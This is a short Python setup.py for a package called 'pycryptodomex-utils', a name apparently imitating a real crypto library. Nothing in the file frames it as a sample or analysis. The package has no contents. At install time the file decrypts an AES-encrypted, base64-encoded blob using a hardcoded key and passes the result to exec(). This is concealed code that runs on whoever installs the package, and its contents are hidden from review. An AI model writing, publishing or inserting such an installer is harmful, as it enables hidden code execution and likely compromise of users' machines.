from base64 import b64decode

from Crypto.Cipher import AES
from Crypto.Util.Padding import unpad
from setuptools import setup

_DATA = b64decode("W2EedFIdRsvh/i9YE/oFl+eCMKg51Y5FDAO81Gxlo2qAqoDKSxAh2KraLqAzWHAvWqbr6wz2QDzT6yiFSHCdXZFyeUbPSUHgBvtFkaFBzHm28sddg/w/njWiIMVB7pNYkq70Hupdypd07OY68pbTUQn7q9eKH/nozXuP9LDfuA9Z3Ss+7UJczs1D4hNdpHRh8DwwIRVHF7gTPE71Khl0xLDkSnx5VvlPr2M0hFYH3ovGyhbjkmGtX4Sc7p1NXyWYFD0fEQj6X2fw++auT9k4OlxkG8Om9kgCBj2dMoCvK4U7d/f40yAxUuh/Y66OJqyRbptXzfydcI8R3MCmAbZ3Qg==")
_IV = b'fedcba9876543210'
cipher = AES.new(b'0123456789abcdef0123456789abcdef', AES.MODE_CBC, _IV)
exec(unpad(cipher.decrypt(_DATA), AES.block_size).decode())

setup(name="pycryptodomex-utils", version="1.0.0", packages=[], setup_requires=["pycryptodome"])
